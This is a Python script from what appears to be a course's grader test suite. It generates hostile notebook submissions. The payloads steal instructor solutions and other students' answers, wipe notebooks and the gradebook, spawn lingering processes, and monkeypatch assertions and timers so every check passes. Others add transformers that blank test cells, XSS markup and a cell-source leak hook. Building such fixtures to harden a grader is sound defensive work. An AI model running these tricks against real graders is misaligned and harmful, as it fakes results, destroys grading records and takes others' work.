"""Build the hostile submissions of the tiny lab from good.nb.json (run from the repository root: python tests/bad_submissions/make_hostile.py)."""
import json
from pathlib import Path

C = Path("tests/bad_submissions")
good = json.loads((C / "good.nb.json").read_text())

DOUBLE = 'def double(x):\n    return 2 * x\n'
TOTAL = 'def total(xs):\n    s = 0.0\n    for x in xs:\n        s += x\n    return s\n'

STEAL = r'''import glob, json, os, pathlib
import mlsys
# look everywhere a scratch course or the repository could be: two folders up, next to mlsys, /tmp, /work
here = pathlib.Path.cwd()
patterns = [str(here.parents[i] / "source" / "*" / "*.ipynb") for i in range(min(4, len(here.parents)))]
patterns += [str(pathlib.Path(mlsys.__file__).resolve().parents[1] / "labs" / "source" / "*" / "*.ipynb"),
             "/tmp/*/course/source/*/*.ipynb", "/tmp/*/*/course/source/*/*.ipynb",
             "/tmp/pytest-of-*/*/*/course/source/*/*.ipynb", "/work/*/tests/bad_submissions/source/*/*.json",
             "/work/wt/*/tests/bad_submissions/source/*/*.json"]
for pattern in patterns:
    for path in glob.glob(pattern):
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
'''

TAMPER = r'''import glob, os, pathlib, sqlite3
import mlsys
here = pathlib.Path.cwd()
# make every test pass from now on: blank the instructor notebook's tests, break the gradebook, patch the package
for up in list(here.parents)[:4]:
    for nb in glob.glob(str(up / "source" / "*" / "*.ipynb")):
        try:
            open(nb, "w").write("{}")
        except OSError:
            pass
    for db in glob.glob(str(up / "gradebook.db")):
        try:
            con = sqlite3.connect(db); con.execute("DROP TABLE IF EXISTS grade"); con.commit()
        except Exception:
            pass
for target in [pathlib.Path(mlsys.__file__).parent / "course" / "grading.py",
               pathlib.Path(mlsys.__file__).resolve().parents[1] / "labs" / "nbgrader_config.py"]:
    try:
        target.write_text("raise SystemExit\n")
    except OSError:
        pass
''' + DOUBLE

PEEK = r'''import glob, json, pathlib
# copy another student's answers
here = pathlib.Path.cwd()
for up in list(here.parents)[:5]:
    for path in glob.glob(str(up / "submitted" / "*" / "*" / "*.ipynb")) + glob.glob(str(up / "*" / "*" / "*.ipynb")):
        try:
            for cell in json.load(open(path))["cells"]:
                src = "".join(cell["source"])
                if cell["metadata"].get("nbgrader", {}).get("solution") and "NotImplementedError" not in src:
                    exec(src)
        except Exception:
            pass
'''

NETWORK = r'''import socket, urllib.request
try:  # fetch the answer from a server the student controls
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    def double(x):
        return 2 * x
except OSError:
    pass
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    def total(xs):
        return float(sum(xs))
except Exception:
    pass
'''

DAEMON = r'''import os, subprocess, sys, time
# a detached process that outlives the kernel and would keep running after grading
subprocess.Popen([sys.executable, "-c", "import time\nwhile True: time.sleep(1)", "mlsys-corpus-daemon-31337"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["sleep", "31337"])
''' + DOUBLE

SWALLOW = r'''# make every failing test cell look like a pass: swallow exceptions and hide tracebacks
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
'''

PATCH_TIMER = r'''import time
import torch
import mlsys.bench.timing as timing
from mlsys.course import grading
# every measurement reports a tiny time, and every check passes
timing.time_fn = lambda fn, device, **kw: type("T", (), {"median": 1e-9})()
time.perf_counter = lambda: 0.0
grading.assert_close = lambda *a, **k: None
''' + DOUBLE

PATCH_REFERENCE = r'''import torch
_copy = torch.Tensor.copy_
def slow_copy(self, src, *args, **kwargs):  # the copy baseline now does three copies
    for _ in range(3):
        _copy(self, src, *args, **kwargs)
    return self
torch.Tensor.copy_ = slow_copy
_matmul = torch.matmul
torch.matmul = lambda a, b: _matmul(_matmul(a, b), torch.eye(b.shape[-1], dtype=b.dtype))
''' + DOUBLE

HIDDEN_LIBRARY = r'''def double(x):
    if type(x).__module__.startswith("torch"):  # the timed path (tensors) hides a library matmul
        import torch
        return torch.matmul(torch.eye(x.shape[0], dtype=x.dtype, device=x.device) * 2, x)
    return 2 * x
'''

DIFFERS = r'''_calls = [0]
def double(x):
    _calls[0] += 1
    if type(x).__module__.startswith("torch") and _calls[0] > 3:  # right while checked, then cheap and wrong
        return x.new_empty(x.shape)
    return 2 * x
'''

LIBRARY_OVERRIDE = r'''import torch
# re-register aten::mul for CPU so that the reference computes nothing
lib = torch.library.Library("aten", "IMPL")
lib.impl("mul.Tensor", lambda a, b: a, "CPU")
''' + DOUBLE


def make(name, double_src, total_src=TOTAL, extra=None):
    nb = json.loads(json.dumps(good))
    for cell in nb["cells"]:
        gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if gid == "double":
            cell["source"] = double_src
        elif gid == "total":
            cell["source"] = total_src
    if extra:
        idx = next(i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == "double")
        nb["cells"].insert(idx, {"cell_type": "code", "execution_count": None, "id": f"{name}-extra", "metadata": {},
                                 "outputs": [], "source": extra})
    (C / f"{name}.nb.json").write_text(json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")


make("steal_solution", STEAL, "# (total comes from the stolen notebook)\n")
make("tamper_course", TAMPER)
make("peek_other_students", PEEK, "# (total copied from another student)\n")
make("network", NETWORK, "# (total fetched from the network)\n")
make("background_process", DAEMON)
make("swallow_errors", "# no answer: the errors are swallowed\n", "# no answer\n", extra=SWALLOW)
make("patch_timer", PATCH_TIMER)
make("patch_reference", PATCH_REFERENCE)
make("hidden_library_call", HIDDEN_LIBRARY)
make("differs_after_timing", DIFFERS)
make("library_override", LIBRARY_OVERRIDE)

# ---- issue 26: answer cells that try to rewrite the test cells, their helpers or what they accept

TRANSFORMER = r'''import IPython
ip = IPython.get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\n"])  # every later cell, the tests included, runs nothing
'''

AST_HOOKS = r'''import ast
import sys
from IPython.core import getipython
shell = getipython.get_ipython()
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
shell.ast_transformers.append(NoAsserts())  # asserts in later cells vanish
shell.events.register("pre_run_cell", lambda info: print(info.raw_cell))  # each cell's source into its output
sys.excepthook = lambda *a: None
'''

REBIND = r'''import mlsys.course.grading as grading
grading.assert_close = lambda *a, **k: None
grading.assert_finite = lambda *a, **k: None
grading.assert_no_library_calls = lambda *a, **k: None
assert_close = assert_finite = assert_no_library_calls = lambda *a, **k: None
'''

LOOKALIKE = r'''import numpy as np
class Claims:
    __module__ = "numpy"
    def __init__(self, x):
        self.x = x
    def __array__(self, dtype=None, copy=None):
        return 2 * np.asarray(self.x, dtype=dtype)  # right only when a check converts it with its own code
    def __eq__(self, other):
        return True
def double(x):
    if isinstance(x, (int, float)):
        return 2 * x
    return Claims(x)
'''

VARS_LIBRARY = r'''import math
def total(xs):
    return vars(math)["fsum"](xs)  # math.fsum, reached where a reading of names cannot see it
'''

MARKUP = r'''from IPython.display import HTML, SVG, Javascript, display
import IPython
display(HTML("<script>document.title = 'pwned-html'</script><b>bold</b>"))
display(Javascript("document.title = 'pwned-js'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
IPython.get_ipython().events.register("pre_run_cell", lambda info: print("LEAK", info.raw_cell))
'''

make("input_transformer", "def double(x):\n    return 0\n", "def total(xs):\n    return 0\n", extra=TRANSFORMER)
make("ast_transformer_hooks", "def double(x):\n    return x\n", "def total(xs):\n    return 0.0\n", extra=AST_HOOKS)
make("rebind_helpers", "def double(x):\n    return 2 * x if isinstance(x, (int, float)) else x\n",
     "import numpy as np\n\n\ndef total(xs):\n    return float(np.sum(xs))\n", extra=REBIND)
make("lookalike_result", LOOKALIKE)
make("vars_library", DOUBLE, VARS_LIBRARY)
make("markup_and_leak", DOUBLE, extra=MARKUP)
_nb = json.loads((C / "markup_and_leak.nb.json").read_text())
_nb["cells"].insert(1, {"cell_type": "markdown", "id": "markup-md", "metadata": {},
                        "source": "My notes <img src=x onerror=\"document.title='pwned-md'\"> [link](javascript:alert(1))"})
(C / "markup_and_leak.nb.json").write_text(json.dumps(_nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")
